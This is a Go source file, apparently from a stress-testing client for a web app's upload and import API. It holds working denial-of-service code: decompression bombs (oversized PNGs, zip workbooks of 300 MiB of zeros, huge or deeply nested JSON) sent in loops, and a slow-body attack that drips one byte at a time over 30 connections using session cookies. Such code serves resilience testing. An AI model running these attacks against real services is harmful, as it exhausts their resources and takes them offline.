package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"image"
	"image/png"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"
)

// zeros reads as so many bytes of nothing.
func zeros(n int64) io.Reader { return io.LimitReader(endless{}, n) }

type endless struct{}

func (endless) Read(into []byte) (int, error) { clear(into); return len(into), nil }

// picture is a small file that unfolds to so many points of eight bytes.
func picture(side int) []byte {
	var b bytes.Buffer
	if err := (&png.Encoder{CompressionLevel: png.BestSpeed}).Encode(&b, image.NewRGBA64(image.Rect(0, 0, side, side))); err != nil {
		panic(err) // a buffer takes everything
	}
	return b.Bytes()
}

// workbook is a small file of which a part unfolds.
func workbook(part string, size int64) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.Create(part)
	if err == nil {
		_, err = io.Copy(w, zeros(size))
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		panic(err) // a buffer takes everything
	}
	return b.Bytes()
}

// bomb sends what is small and unfolds to very much.
func (c *client) bomb(app string) func(context.Context) {
	large, fair := picture(5000), picture(3000)
	var books [][]byte
	for _, part := range []string{"xl/styles.xml", "xl/sharedStrings.xml", "xl/media/image1.png"} {
		books = append(books, workbook(part, 300<<20))
	}
	lists := []string{
		"[" + strings.Repeat("{},", 5<<20) + "{}]",
		`[{"a":` + strings.Repeat("[", 8<<20),
		`[{` + strings.Repeat(`"a":1,`, 2<<20) + `"b":2}]`,
	}
	return func(ctx context.Context) {
		at := "/api/apps/" + app
		for n := 0; ctx.Err() == nil; n++ {
			var all sync.WaitGroup
			for range 3 {
				all.Go(func() { c.do(ctx, http.MethodPost, at+"/pictures?name=x.png", large) })
			}
			all.Go(func() { c.do(ctx, http.MethodPost, at+"/pictures?name=x.png", fair) })
			all.Wait()
			content := books[n%len(books)]
			if n%2 == 1 {
				content = []byte(lists[n/2%len(lists)])
			}
			_, answer := c.do(ctx, http.MethodPost, at+"/uploads?name=x.xlsx", content)
			var made struct{ ID string }
			if json.Unmarshal([]byte(answer), &made) == nil && made.ID != "" {
				c.do(ctx, http.MethodPost, at+"/imports/propose", fmt.Appendf(nil, `{"uploads":[%q]}`, made.ID))
			}
		}
	}
}

// drips is how many bodies come slowly at once.
const drips = 30

// drip sends many bodies, each byte by byte.
func (c *client) drip(app string) func(context.Context) {
	at, err := url.Parse(c.site.url)
	if err != nil {
		panic(err) // it is one that answered
	}
	var cookies []string
	for _, x := range c.Jar.Cookies(&url.URL{Scheme: "http", Host: at.Host, Path: "/api/"}) {
		cookies = append(cookies, x.String())
	}
	head := fmt.Sprintf("POST /api/apps/%s/uploads?name=x.csv HTTP/1.1\r\nHost: %s\r\nCookie: %s\r\nContent-Length: 9000000\r\n\r\n", app, at.Host,
		strings.Join(cookies, "; "))
	return func(ctx context.Context) {
		var all sync.WaitGroup
		for range drips {
			all.Go(func() {
				for ctx.Err() == nil {
					c.trickle(ctx, at.Host, head)
				}
			})
		}
		all.Wait()
	}
}

// trickle sends one body until the server has had enough.
func (c *client) trickle(ctx context.Context, host, head string) {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", host)
	if err != nil {
		c.to.came(c.who, "a slow body", 0, err.Error())
		return
	}
	defer func() { _ = conn.Close() }()
	if _, err = conn.Write([]byte(head)); err != nil {
		return
	}
	for tick := time.Tick(200 * time.Millisecond); ; {
		select {
		case <-ctx.Done():
			return
		case <-tick:
		}
		if _, err := conn.Write([]byte("x")); err != nil {
			c.to.came(c.who, "a slow body", 0, err.Error())
			return
		}
	}
}
